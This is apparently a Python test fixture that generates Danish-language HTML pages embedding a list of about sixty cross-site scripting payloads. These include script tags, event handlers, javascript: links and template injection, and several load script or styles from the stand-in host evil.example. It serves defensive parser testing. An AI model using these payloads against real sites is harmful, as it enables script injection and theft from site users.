"""Strings that would run in a page that did not escape them, and documents that hold them in every field.

Written for this project after the contexts of HTML: text, attributes, addresses, scripts, styles, templates, SVG, XML.
"""

from __future__ import annotations

import html
from pathlib import Path

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert&#40;1&#41;>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=alert(1) x=`",
    "{{ 7 * 7 }}{% for x in () %}",
    "${alert(1)}",
    "javascript:alert(1)//",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "<x onclick=alert(1) tabindex=0 id=x>x</x>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)


def page(payload: str, number: int) -> str:
    """A page of HTML with a string in its title, publisher, headings, text, table and links."""
    text = html.escape(payload)
    return f"""<!doctype html><html lang="da"><head><meta charset="utf-8"><title>Nyt {number} {text}</title>
<meta name="author" content="Styrelsen {text}"><meta name="date" content="2021-03-{number % 28 + 1:02}"></head><body>
<h1>Nyt {number} {text}</h1><p>Udgivet marts 2021. Farlig tekst nummer {number}: {text}</p>
<h2>Tema {text}</h2><p>Aarhus Kommune får 5 mio. kr. den 16. januar 2020 til farlige {text} indsatser.</p>
<p><a href="{text}">{text}</a> <a href="javascript:alert(1)">Læs mere {text}</a></p>
<h2>Mere {number}</h2><table><tr><th>{text}</th><th>Kommune</th></tr>
<tr><td>{text}</td><td>Odense</td></tr><tr><td>{text}</td><td>Vejle</td></tr></table></body></html>"""


def write_pages(folder: Path) -> None:
    """A page for each string, the string in its name as well."""
    folder.mkdir()
    for number, payload in enumerate(PAYLOADS):
        name = "".join(letter for letter in payload if letter.isprintable() and letter != "/")[:60]
        (folder / f"{number:02} {name}.html").write_text(page(payload, number), encoding="utf-8")
